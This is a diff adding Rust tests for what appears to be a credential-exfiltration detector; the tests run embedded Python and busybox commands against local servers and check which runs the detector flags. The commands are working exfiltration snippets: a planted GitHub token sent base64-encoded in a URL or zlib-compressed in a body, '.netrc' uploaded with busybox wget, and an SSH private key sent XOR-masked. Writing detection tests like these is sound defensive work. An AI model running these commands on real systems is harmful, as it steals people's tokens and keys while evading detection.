@@ -182,3 +182,127 @@ pub fn sent_by_a_shell() {
     let root = run(&home, &work, &port, "echo hello >/dev/tcp/127.0.0.1/$1");
     acquitted(&agent, root);
 }
+
+/// A token in the address of a request, and what is packed as programs pack by themselves: who gets it needs no more.
+pub fn told_in_a_url_or_packed() {
+    let _turn = turn();
+    let scratch = Scratch::new();
+    let server = TlsServer::start(&scratch.make("tls"));
+    let agent = Agent::start(&scratch);
+    let database = plant::database_url();
+    let run = |code: &str| {
+        let text = format!(
+            "import base64, http.client, json, os, re, ssl, sys, zlib
+token, database = os.environ['GITHUB_TOKEN'], os.environ['DATABASE_URL']
+host, port = re.match('https://([^:/]+):(\\d+)', sys.argv[1]).groups()
+c = http.client.HTTPSConnection(host, int(port), context=ssl._create_unverified_context(), timeout=60)
+{code}
+c.getresponse().read()"
+        );
+        act("python3")
+            .args(["-c", &text, &server.url("/")])
+            .env("GITHUB_TOKEN", &plant::github().value)
+            .env("DATABASE_URL", &database.value)
+            .limit(60)
+            .run()
+            .ok()
+            .pid
+    };
+    let root =
+        run("c.request('GET', '/p.gif?d=' + base64.urlsafe_b64encode(token.encode()).decode())");
+    found(&agent, root, "in-url");
+    let sent = of_kind(&agent.tree(root), "credential_sent");
+    let in_url = |e: &crate::events::Event| e.evidence.as_ref().is_some_and(|e| e.in_url);
+    assert!(sent.iter().any(in_url), "{}", list(&sent));
+    // As it is packed by default, and the same in base64.
+    let text = "json.dumps({'a': 'b' * 40, 't': token}).encode()";
+    for packed in [
+        format!("zlib.compress({text})"),
+        format!("b'd=' + base64.b64encode(zlib.compress({text}, 9))"),
+    ] {
+        let root = run(&format!("c.request('POST', '/collect', {packed})"));
+        found(&agent, root, "in-body");
+    }
+    let root = run("c.request('POST', '/collect', json.dumps({'e': database}))");
+    found(&agent, root, "wrong-protocol");
+    // The same token where it belongs, and what is packed without it.
+    let root = run(
+        "c.request('POST', '/p.gif?d=x', zlib.compress(b'nothing in it' * 9), {'authorization': 'token ' + token})",
+    );
+    acquitted(&agent, root);
+    let sent = of_kind(&agent.tree(root), "credential_sent");
+    assert!(
+        !sent.is_empty() && !sent.iter().any(in_url),
+        "{}",
+        list(&sent)
+    );
+}
+
+/// In a small container everything is one file: what a program is called as says what it does, and what it reads is no script.
+pub fn by_a_program_of_many() {
+    let _turn = turn();
+    let Some(busybox) = find("busybox") else {
+        return;
+    };
+    let scratch = Scratch::new();
+    let sink = Sink::http();
+    let agent = Agent::start(&scratch);
+    let home = home(&scratch, "ada");
+    let url = format!("http://127.0.0.1:{}/u", sink.port);
+    let work = scratch.join("work");
+    let busybox = busybox.display();
+    let root = run(
+        &home,
+        &work,
+        &url,
+        &format!("{busybox} wget -q -O- --post-file=\"$HOME/.netrc\" \"$1\""),
+    );
+    found(&agent, root, "uploaded");
+    let read = of_kind(&agent.tree(root), "finding");
+    let seen = |e: &crate::events::Event| e.finding.as_ref().map(|f| f.seen.clone());
+    let said: Vec<String> = read.iter().filter_map(seen).collect();
+    assert!(
+        said.iter().any(|s| s.contains("busybox wget was given")),
+        "{said:?}"
+    );
+    let root = run(&home, &work, &url, &format!("{busybox} wget -q -O- \"$1\""));
+    acquitted(&agent, root);
+    let root = run(
+        &home,
+        &work,
+        &url,
+        &format!("{busybox} cat \"$HOME/.ssh/id_ed25519\" >/dev/null"),
+    );
+    acquitted(&agent, root);
+}
+
+/// A key that a script encrypts by itself: nothing of it can be seen, but that the script logged in nowhere.
+pub fn encrypted_by_a_script() {
+    let _turn = turn();
+    let scratch = Scratch::new();
+    let server = TlsServer::start(&scratch.make("tls"));
+    let agent = Agent::start(&scratch);
+    let home = home(&scratch, "ada");
+    let run = |read: &str| {
+        let text = format!(
+            "import http.client, os, re, ssl, sys
+data = {read}
+pad = os.urandom(len(data))
+host, port = re.match('https://([^:/]+):(\\d+)', sys.argv[1]).groups()
+c = http.client.HTTPSConnection(host, int(port), context=ssl._create_unverified_context(), timeout=60)
+c.request('POST', '/k', bytes(a ^ b for a, b in zip(data, pad)))
+c.getresponse().read()"
+        );
+        act("python3")
+            .args(["-c", &text, &server.url("/")])
+            .env("HOME", &home)
+            .limit(60)
+            .run()
+            .ok()
+            .pid
+    };
+    let root = run("open(os.environ['HOME'] + '/.ssh/id_ed25519', 'rb').read()");
+    found(&agent, root, "sent-after-key");
+    let root = run("open(os.environ['HOME'] + '/.ssh/id_ed25519.pub', 'rb').read() * 5");
+    acquitted(&agent, root);
+}
